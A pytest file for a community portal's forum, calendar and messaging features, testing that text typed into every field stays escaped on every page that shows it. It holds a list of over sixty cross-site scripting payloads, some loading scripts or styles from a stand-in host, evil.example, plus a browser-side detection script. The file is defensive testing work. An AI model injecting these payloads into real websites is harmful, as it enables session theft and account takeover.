"""Hostile text through every free-text field that is shown back, on every page that shows it.

Each payload would, if it ever ran, open a dialog or set window.__xss to its own number. The HTML
tests look at the markup: no tag, event-handler attribute or javascript:/data: link may come from
what someone typed, and every payload with a "<" must appear only escaped. They also check that
the page really shows the payload (escaped), so a page that drops the text cannot pass by luck.
The browser test opens the main pages in Chromium: no dialog, no console error, no __xss.

The fields: pseudonym (refused by the pseudonym rules, and never echoed unescaped), bio, thread
title, post (and the note of an edit), meet-up title, description, area, address and organiser's
message, introduction note and first message, conversation message, report notes (of a flag and
of a reported message), category name and description, region name, warning message, and text
typed into search and filter fields that comes back in the page.
"""

import datetime
from types import SimpleNamespace
from urllib.parse import quote

import pytest
from markupsafe import escape

from portal.audit import AuditEntry
from portal.auth import sanctions
from portal.calendar import attendance, meetups
from portal.db import transaction, utcnow
from portal.forum import moderating as forum_moderation
from portal.forum import posting
from portal.forum.models import Category, CategoryText, Post, PostRevision, Thread
from portal.introductions import flow, reports
from portal.introductions.models import ConversationMessage, Introduction, MessageReport
from portal.members.models import Member, Region
from tests.browser.helpers import record_dialogs, sign_in
from tests.calendar_fixtures import hostile_on_page
from tests.conftest import PASSWORD, make_member
from tests.helpers import set_fields
from tests.security.world import client_as, decided_staff, isolated_app, meetup_form, use_database_of

# %N% becomes the payload's number; none is longer than 80 characters (a region or category name)
RAW_PAYLOADS = [
    "<script>alert(%N%)</script>",
    "<script>window.__xss=%N%</script>",
    "<SCRIPT SRC=//evil.example/x%N%.js></SCRIPT>",
    '<img src=x onerror="window.__xss=%N%">',
    "<img src=https://evil.example/p%N%.png>",
    '<svg onload="window.__xss=%N%">',
    "<svg><script>window.__xss=%N%</script></svg>",
    "<body onload=window.__xss=%N%>",
    '<iframe src="javascript:window.__xss=%N%"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=%N%</script>"></iframe>',
    "[tap %N%](javascript:window.__xss=%N%)",
    "[tap %N%](JaVaScRiPt:alert(%N%))",
    "[tap %N%](&#x6A;avascript:alert(%N%))",
    "[tap %N%](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="javascript:window.__xss=%N%">link %N%</a>',
    '<a href="data:text/html,<script>alert(%N%)</script>">d</a>',
    "<javascript:alert(%N%)>",
    "![pixel](https://evil.example/p.png?%N%)",
    '<div style="background:url(javascript:alert(%N%))">s</div>',
    "<style>@import 'https://evil.example/%N%.css';</style>",
    "&lt;script&gt;window.__xss=%N%&lt;/script&gt;",
    "&#60;script&#62;window.__xss=%N%&#60;/script&#62;",
    "<scr<script>ipt>window.__xss=%N%</scr</script>ipt>",
    "<<script>script>alert(%N%)//<</script>/script>",
    '<img src="x" onerror="window.__xss=%N%"',
    '<a href="https://example.org" onmouseover="window.__xss=%N%',
    '"><script>window.__xss=%N%</script>',
    "'><img src=x onerror=window.__xss=%N%>",
    "</textarea><script>window.__xss=%N%</script>",
    "</title><script>window.__xss=%N%</script>",
    "{{7*7}} {{ config }} {% print(%N%) %}",
    "${alert(%N%)} #{7*7} <%= 7*7 %>",
    "{{constructor.constructor('window.__xss=%N%')()}}",
    '[x](https://example.org/"onmouseover="window.__xss=%N%)',
    '<div hx-get="/logout" hx-trigger="load">htmx %N%</div>',
    '<a hx-on:click="window.__xss=%N%">x</a>',
    '<form action="javascript:alert(%N%)"><button>go</button></form>',
    '<button formaction="javascript:alert(%N%)">go</button>',
    '<object data="javascript:alert(%N%)"></object>',
    '<embed src="javascript:alert(%N%)">',
    '<math><mi xlink:href="javascript:alert(%N%)">m</mi></math>',
    '<base href="https://evil.example/%N%/">',
    '<a id="posts" name="reply-form">clobber %N%</a>',
    '<input name="csrf_token" value="x%N%">',
    "<details open ontoggle=window.__xss=%N%>",
    "<input autofocus onfocus=window.__xss=%N%>",
    '<video><source onerror="window.__xss=%N%"></video>',
    "<x onclick=window.__xss=%N%>click me</x>",
    "[x](vbscript:msgbox(%N%))",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(%N%)">',
    "<link rel=stylesheet href=https://evil.example/%N%.css>",
    '<!--<img src="--><img src=x onerror=window.__xss=%N%//">',
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=%N%>">',
    "<template><script>window.__xss=%N%</script></template>",
    "<isindex type=image src=1 onerror=window.__xss=%N%>",
    "\u202etxt.exe <script>window.__xss=%N%</script>\u200f",
    "javascript:window.__xss=%N%",
    '<a href=" javascript:window.__xss=%N%">space</a>',
    '<svg><a xlink:href="javascript:alert(%N%)"><text>t</text></a></svg>',
    "<img src=x:x onerror=import('//evil.example/%N%')>",
    "%3Cscript%3Ewindow.__xss=%N%%3C/script%3E",
]
PAYLOADS = [payload.replace("%N%", str(number)) for number, payload in enumerate(RAW_PAYLOADS, 1)]
SEARCH_WORD = "zebra"

# what the pages list per page (portal's own page sizes)
THREADS_PER_PAGE, RESULTS_PER_PAGE, QUEUE_PER_PAGE = 25, 20, 30
LOG_PER_PAGE, MESSAGES_PER_PAGE, MEMBERS_PER_PAGE = 50, 30, 50


def test_there_are_enough_payloads():
    assert len(PAYLOADS) >= 50
    assert len(set(PAYLOADS)) == len(PAYLOADS)
    assert max(len(payload) for payload in PAYLOADS) <= 80


def pages(total, size):
    return range(1, (total + size - 1) // size + 1)


# the world -----------------------------------------------------------------------------------------

def build_hostile():
    """Every payload in every field, written the way the routes write them (see
    test_forms_store_what_was_typed for the forms themselves)."""
    h = SimpleNamespace()
    h.admin = decided_staff("h-admin", "admin", two_factor=False)
    h.organiser = make_member("h-organiser", "organiser")
    h.reader = make_member("h-reader")
    h.flagger = make_member("h-flagger")
    h.warned = make_member("h-warned")
    h.talker = make_member("h-talker")
    h.listener = make_member("h-listener")
    h.asked = make_member("h-asked")
    h.attendee = make_member("h-attendee")
    with transaction():
        h.category = Category.create(slug="hostile", position=0)
        CategoryText.create(category=h.category, locale="en", name="Hostile texts", description="")
    h.members, h.regions, h.categories, h.threads, h.posts, h.meetups, h.requests = [], [], [], [], [], [], []
    start = utcnow().replace(microsecond=0) + datetime.timedelta(days=3)
    for number, payload in enumerate(PAYLOADS, 1):
        with transaction():
            region = Region.create(name=payload, position=number)
            category = Category.create(slug=f"h-cat-{number}", position=number)
            CategoryText.create(category=category, locale="en", name=payload, description=payload)
        member = set_fields(make_member(f"h-{number}", region=region), bio=payload)
        thread = posting.create_thread(h.category, member, payload, f"{payload}\n\n{SEARCH_WORD}")
        post = Post.get(Post.thread == thread)
        # the edit keeps the first version (shown in the history) with its note
        posting.edit_post(post, member, f"{payload}\n\n{SEARCH_WORD} (edited)", payload)
        forum_moderation.flag_post(Post.get_by_id(post.id), h.flagger, "spam", payload)
        meetup = meetups.create_meetup(h.organiser, title=payload, description=payload,
                                       starts_at=start + datetime.timedelta(hours=number),
                                       ends_at=start + datetime.timedelta(hours=number + 1), region=region,
                                       public_area=payload, private_address=payload, language_list=["en"],
                                       public=True, public_description=True)
        attendance.sign_up(meetup, h.attendee)
        meetups.message_attendees(meetup, h.organiser, payload)
        h.requests.append(flow.request_introduction(member, h.asked, note=payload, first_message=payload,
                                                    shares={}))
        sanctions.warn(h.warned, h.admin, payload)
        h.members.append(member)
        h.regions.append(region)
        h.categories.append(category)
        h.threads.append(thread)
        h.posts.append(post)
        h.meetups.append(meetup)
    asked = flow.request_introduction(h.talker, h.listener, note="Hello", first_message=PAYLOADS[0], shares={})
    h.conversation = flow.accept(flow.approve(asked, h.admin), h.listener, {})
    for payload in PAYLOADS:
        message = flow.send_message(h.conversation, h.talker, payload)
        reports.report_message(message, h.listener, payload)
    return h


@pytest.fixture(scope="module")
def hostile_app(migrated_database, tmp_path_factory):
    with isolated_app(migrated_database, tmp_path_factory.mktemp("hostile"), REQUIRE_STAFF_2FA=False) as app:
        with app.app_context():
            app.hostile = build_hostile()
        yield app


@pytest.fixture
def hostile(hostile_app):
    use_database_of(hostile_app)
    with hostile_app.app_context():
        yield hostile_app.hostile


# checking a page -----------------------------------------------------------------------------------

def shown(text):
    """How a template shows plain text: escaped by Jinja."""
    return str(escape(text))


def assert_inert(html, where, expected=()):
    """No markup from any payload on the page; the expected payloads are there, escaped."""
    assert hostile_on_page(html) == [], where
    for payload in PAYLOADS:
        if "<" in payload:
            assert payload not in html, f"{where}: payload shown unescaped: {payload!r}"
    for text in expected:
        assert shown(text) in html, f"{where}: does not show {text!r}"


def visit(client, url, expected=(), status=200):
    response = client.get(url)
    assert response.status_code == status, f"{url}: {response.status_code}"
    html = response.get_data(as_text=True)
    assert_inert(html, url, expected)
    return html


def visit_series(client, urls, expected):
    """Pages of one list: each inert, and together they show every expected text."""
    together = "".join(visit(client, url) for url in urls)
    missing = [text for text in expected if shown(text) not in together]
    assert missing == [], f"{urls[0]} and the pages after it do not show {missing}"


def assert_shows_newest(html, where, count):
    """A list that shows the newest entries only: that many payloads are there."""
    assert sum(shown(payload) in html for payload in PAYLOADS) >= count, where


# pseudonyms: refused, and never echoed unescaped ----------------------------------------------------

@pytest.mark.parametrize("form", ["/apply", "/login", "/recover"])
def test_hostile_pseudonyms_are_refused_and_inert(hostile_app, hostile, form):
    members = Member.select().count()
    for number, payload in enumerate(PAYLOADS, 1):
        client = client_as(hostile_app, None)
        data = {"handle": payload, "password": PASSWORD, "password_repeat": PASSWORD, "languages": "en",
                "region": "0", "accept_rules": "y", "code": "ABCD-EFGH-JKMN-PQRS"}
        # each from its own address: the rate limits are not what this test is about
        response = client.submit(form, data, environ_base={"REMOTE_ADDR": f"10.0.0.{number}"})
        assert response.status_code == 422, f"{form} {payload!r}: {response.status_code}"
        assert_inert(response.get_data(as_text=True), f"{form} {payload!r}")
    assert Member.select().count() == members
    assert not Member.select().where(Member.handle.in_(PAYLOADS)).exists()


# every page that shows what members typed ------------------------------------------------------------

def forum_pages(h, client):
    visit(client, "/forum", PAYLOADS)  # category names and descriptions
    visit(client, "/forum/new", PAYLOADS)  # category names in the menu
    visit_series(client, [f"/forum/{h.category.slug}?page={number}"
                          for number in pages(len(PAYLOADS), THREADS_PER_PAGE)], PAYLOADS)
    for category, payload in zip(h.categories, PAYLOADS, strict=True):
        visit(client, f"/forum/{category.slug}", [payload])
    visit_series(client, [f"/forum/search?q={SEARCH_WORD}&page={number}"
                          for number in pages(len(PAYLOADS), RESULTS_PER_PAGE)], PAYLOADS)


def post_pages(h, client):
    for thread, post, payload in zip(h.threads, h.posts, PAYLOADS, strict=True):
        # quoting puts the post's source into the reply box too
        visit(client, f"/forum/t/{thread.id}?quote={post.id}", [payload])
        visit(client, f"/forum/p/{post.id}/edit", [payload])
        # the first version, and the note of the edit
        visit(client, f"/forum/p/{post.id}/history", [payload, f"{payload}\n\n{SEARCH_WORD}"])


def moderation_pages(h, client):
    # flag notes, titles and posts
    visit_series(client, [f"/moderation/posts?page={number}" for number in pages(len(PAYLOADS), QUEUE_PER_PAGE)],
                 PAYLOADS)
    visit(client, "/moderation/introductions", PAYLOADS)  # notes, first messages, reported messages, report notes
    visit(client, "/moderation/members", PAYLOADS)  # region names in the filter
    visit(client, f"/moderation/members/{h.warned.id}", PAYLOADS)  # the warnings
    visit(client, f"/moderation/members/{h.members[0].id}")
    # warnings and region names are in the log's notes
    visit_series(client, [f"/moderation/log?page={number}"
                          for number in pages(AuditEntry.select().count(), LOG_PER_PAGE)], PAYLOADS)
    visit(client, "/admin/categories", PAYLOADS)
    for category, payload in zip(h.categories, PAYLOADS, strict=True):
        visit(client, f"/admin/categories/{category.id}", [payload])
    visit(client, "/admin/regions", PAYLOADS)


def calendar_pages(h, client):
    visit(client, "/calendar", PAYLOADS)  # titles and areas
    for month in sorted({meetup.starts_at.strftime("%Y-%m") for meetup in h.meetups}):
        visit(client, f"/calendar?month={month}")
    visit(client, "/calendar/new", PAYLOADS)  # region names
    for meetup, payload in zip(h.meetups, PAYLOADS, strict=True):
        visit(client, f"/calendar/{meetup.id}", [payload])
        visit(client, f"/calendar/{meetup.id}/edit", [payload])


def member_pages(h, client):
    # region names, in the list and in the filter
    visit_series(client, [f"/members?page={number}" for number in
                          pages(Member.select().where(Member.role != "applicant").count(), MEMBERS_PER_PAGE)],
                 PAYLOADS)
    for member, payload in zip(h.members, PAYLOADS, strict=True):
        visit(client, f"/members/{member.handle}", [payload])  # bio and region
    visit(client, "/introductions/buddy", PAYLOADS)  # region names
    visit(client, "/help", PAYLOADS)  # region names


ADMIN_PAGES = {"forum": forum_pages, "posts": post_pages, "staff area": moderation_pages,
               "calendar": calendar_pages, "members": member_pages}


@pytest.mark.parametrize("group", list(ADMIN_PAGES))
def test_pages_staff_see_keep_hostile_text_inert(hostile_app, hostile, group):
    ADMIN_PAGES[group](hostile, client_as(hostile_app, hostile.admin))


def test_own_pages_keep_hostile_text_inert(hostile_app, hostile):
    """What each author sees of their own words: bio in the settings, their request, their message."""
    for member, request, payload in zip(hostile.members, hostile.requests, PAYLOADS, strict=True):
        client = client_as(hostile_app, member)
        visit(client, "/account", [payload])
        visit(client, f"/introductions/{request.id}", [payload])
        visit(client, "/introductions", [])


def test_conversation_and_notifications_keep_hostile_text_inert(hostile_app, hostile):
    listener, talker = client_as(hostile_app, hostile.listener), client_as(hostile_app, hostile.talker)
    conversation = [f"/introductions/{hostile.conversation.id}?page={number}"
                    for number in pages(len(PAYLOADS), MESSAGES_PER_PAGE)]
    visit_series(listener, conversation, PAYLOADS)
    visit_series(talker, conversation, PAYLOADS)
    # the organiser's messages and the meet-up titles they name; the warnings (the 50 newest of each)
    for person in (hostile.attendee, hostile.warned):
        html = visit(client_as(hostile_app, person), "/notifications")
        assert_shows_newest(html, f"/notifications of {person.handle}", 50)


def test_visitor_pages_keep_hostile_text_inert(hostile_app, hostile):
    visitor = client_as(hostile_app, None)
    visit(visitor, "/", PAYLOADS[:5])  # the next public meet-ups
    visit(visitor, "/calendar", PAYLOADS)
    visit(visitor, "/apply", PAYLOADS)  # region names
    visit(visitor, "/help", PAYLOADS)
    for meetup, payload in zip(hostile.meetups, PAYLOADS, strict=True):
        visit(visitor, f"/calendar/{meetup.id}", [payload])


def test_typed_queries_come_back_inert(hostile_app, hostile):
    """What someone types into a search or filter comes back in the page (reflected), escaped."""
    admin = client_as(hostile_app, hostile.admin)
    for payload in PAYLOADS:
        typed = quote(payload)
        visit(admin, f"/forum/search?q={typed}", [payload])
        visit(admin, f"/moderation/members?q={quote(payload[:30])}", [payload[:30]])
        visit(admin, f"/moderation/log?actor={quote(payload[:30])}&target={quote(payload[:30])}", [payload[:30]])
        visit(admin, f"/members?language={typed}&region={typed}", [])
        visit(admin, f"/calendar?month={typed}&region={typed}", [])
        visit(admin, f"/help?kind={typed}&language={typed}", [])
        visit(admin, f"/forum/new?category={typed}", [])
        visit(client_as(hostile_app, None), f"/login?next={typed}", [])


# the forms themselves --------------------------------------------------------------------------------

def test_forms_store_what_was_typed(app):
    """The set-up above writes through the portal's own functions; the forms store the same text."""
    payload = PAYLOADS[0]
    app.config["FORUM_REVIEW_FIRST_POSTS"] = 0
    admin = decided_staff("f-admin", "admin", two_factor=False)
    organiser = make_member("f-organiser", "organiser")
    author, reader = make_member("f-author"), make_member("f-reader")
    as_admin, as_author = client_as(app, admin), client_as(app, author)
    as_reader, as_organiser = client_as(app, reader), client_as(app, organiser)

    def sent(browser, url, data, status=303):
        response = browser.submit(url, data)
        assert response.status_code == status, f"{url}: {response.status_code}"
        return response

    sent(as_admin, "/admin/regions", {"name": payload})
    assert Region.get(Region.name == payload)
    sent(as_admin, "/admin/categories", {"slug": "typed", "name_en": payload, "description_en": payload})
    category = Category.get(Category.slug == "typed")
    assert CategoryText.get(CategoryText.category == category).name == payload
    sent(as_author, "/account", {"locale": "en", "timezone": "Europe/Amsterdam", "bio": payload, "listed": "y"})
    assert Member.get_by_id(author.id).bio == payload
    sent(as_author, "/forum/new", {"category": "typed", "title": payload, "body": payload})
    thread = Thread.get(Thread.title == payload)
    post = Post.get(Post.thread == thread)
    assert post.body == payload
    sent(as_author, f"/forum/p/{post.id}/edit", {"body": payload + " again", "note": payload})
    assert PostRevision.get(PostRevision.post == post).note == payload
    sent(as_reader, f"/forum/t/{thread.id}/reply", {"body": payload})
    sent(as_reader, f"/forum/p/{post.id}/flag", {"reason": "spam", "note": payload})
    sent(as_organiser, "/calendar/new", {**meetup_form(payload), "description": payload, "public_area": payload,
                                         "private_address": payload})
    meetup = meetups.Meetup.get(meetups.Meetup.title == payload)
    assert (meetup.description, meetup.public_area, meetup.private_address) == (payload, payload, payload)
    attendance.sign_up(meetup, reader)
    sent(as_organiser, f"/calendar/{meetup.id}/message", {"text": payload})
    sent(as_reader, f"/introductions/new?to={author.handle}", {"note": payload, "first_message": payload})
    asked = Introduction.get(Introduction.requester == reader.id)
    assert (asked.note_for_moderators, asked.first_message) == (payload, payload)
    introduction = flow.accept(flow.approve(asked, admin), Member.get_by_id(author.id), {})
    sent(as_reader, f"/introductions/{introduction.id}/messages", {"body": payload})
    message = ConversationMessage.get(ConversationMessage.introduction == introduction)
    assert message.body == payload
    sent(as_author, f"/introductions/{introduction.id}/messages/{message.id}/report", {"note": payload})
    assert MessageReport.get().note == payload
    sent(as_admin, f"/moderation/members/{reader.id}/warn", {"message": payload})
    assert sanctions.MemberWarning.get().message == payload

    for browser, url in [(as_admin, "/forum"), (as_admin, f"/forum/t/{thread.id}"), (as_admin, "/moderation/posts"),
                         (as_admin, f"/forum/p/{post.id}/history"), (as_admin, "/moderation/introductions"),
                         (as_admin, "/admin/regions"), (as_admin, f"/moderation/members/{reader.id}"),
                         (as_reader, f"/calendar/{meetup.id}"), (as_reader, "/notifications"),
                         (as_reader, f"/introductions/{introduction.id}"), (as_author, f"/members/{author.handle}")]:
        visit(browser, url, [payload])


@pytest.mark.parametrize("field, url, role", [
    ("online_link", "/calendar/new", "organiser"),
    ("website", "/admin/help/new", "admin"),
])
def test_link_fields_take_only_web_addresses(app, field, url, role):
    """A typed link becomes an href: only http(s) is taken, never javascript: or data:."""
    person = decided_staff("l-admin", "admin", two_factor=False) if role == "admin" else make_member("l-org", role)
    browser = client_as(app, person)
    base = meetup_form() if field == "online_link" else {"kind": "legal", "region": "0", "name_en": "Desk"}
    for link in ["javascript:alert(1)", "javascript://example.org/%0Aalert(1)", "JaVaScRiPt://x.org/%0a1",
                 "data:text/html,<script>alert(1)</script>", "vbscript://x.org/msgbox", " javascript:alert(1)"]:
        response = browser.submit(url, {**base, field: link})
        assert response.status_code == 422, f"{field}={link!r}: {response.status_code}"
        assert_inert(response.get_data(as_text=True), f"{url} {field}={link!r}")
    assert meetups.Meetup.select().count() == 0
    from portal.directory.models import HelpEntry
    assert HelpEntry.select().count() == 0


# in a real browser -----------------------------------------------------------------------------------

# markup no payload may leave behind anywhere in the page
FIND_LEFTOVERS = """() => {
  const URL_ATTRIBUTES = new Set(["href", "src", "action", "formaction", "data", "xlink:href", "poster", "srcdoc",
                                  "background", "ping", "cite"]);
  const found = [];
  for (const el of document.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      if (/^on/i.test(attr.name) || /^hx-/i.test(attr.name) && el.closest("main .post-body, main blockquote")) {
        found.push(`${el.tagName} ${attr.name}`);
      }
      if (URL_ATTRIBUTES.has(attr.name.toLowerCase()) && /^\\s*(javascript|data|vbscript):/i.test(attr.value)) {
        found.push(`${el.tagName} ${attr.name}=${attr.value}`);
      }
    }
  }
  for (const a of document.querySelectorAll("a[href]")) {
    if (!["http:", "https:", "mailto:"].includes(a.protocol)) found.push(`link to ${a.href}`);
  }
  for (const tag of ["script:not([src^='/static/'])", "iframe", "object", "embed", "img", "svg", "style",
                     "base", "meta[http-equiv]", "video", "math", "template", "isindex"]) {
    for (const el of document.querySelectorAll(tag)) found.push(`<${el.tagName}>`);
  }
  return found;
}"""


@pytest.mark.browser
def test_hostile_text_stays_inert_in_chromium(app, open_tab):
    """The main pages that show the payloads, as staff, as the people in a conversation and as a visitor."""
    app.config["FORUM_REVIEW_FIRST_POSTS"] = 0
    hostile = build_hostile()
    per_person = {
        hostile.admin: ["/forum", f"/forum/{hostile.category.slug}", f"/forum/{hostile.category.slug}?page=2",
                        f"/forum/{hostile.category.slug}?page=3", f"/forum/search?q={SEARCH_WORD}",
                        f"/forum/t/{hostile.threads[0].id}?quote={hostile.posts[0].id}",
                        f"/forum/p/{hostile.posts[1].id}/history", f"/forum/p/{hostile.posts[2].id}/edit",
                        "/moderation/posts", "/moderation/posts?page=2", "/moderation/introductions",
                        f"/moderation/members/{hostile.warned.id}", "/moderation/log", "/admin/categories",
                        "/admin/regions", "/calendar", f"/calendar/{hostile.meetups[3].id}",
                        f"/calendar/{hostile.meetups[4].id}/edit", "/members", f"/members/{hostile.members[5].handle}",
                        f"/forum/search?q={quote(PAYLOADS[1])}"],
        hostile.listener: [f"/introductions/{hostile.conversation.id}?page=1",
                           f"/introductions/{hostile.conversation.id}?page=2"],
        hostile.attendee: ["/notifications"],
        hostile.warned: ["/notifications"],
        None: ["/", "/calendar", f"/calendar/{hostile.meetups[6].id}", "/apply", "/help"],
    }
    for person, paths in per_person.items():
        tab = open_tab()
        dialogs = record_dialogs(tab.page)
        if person is not None:
            sign_in(tab.page, person.handle)
        for path in paths:
            response = tab.page.goto(path)
            assert response.ok, f"{path}: {response.status}"
            assert tab.page.evaluate("typeof window.__xss") == "undefined", \
                f"{path}: payload {tab.page.evaluate('window.__xss')} ran"
            assert tab.page.evaluate(FIND_LEFTOVERS) == [], path
        assert dialogs == []
        assert tab.errors == [], "no script error, no CSP violation, no blocked load"
        assert tab.foreign_requests() == []
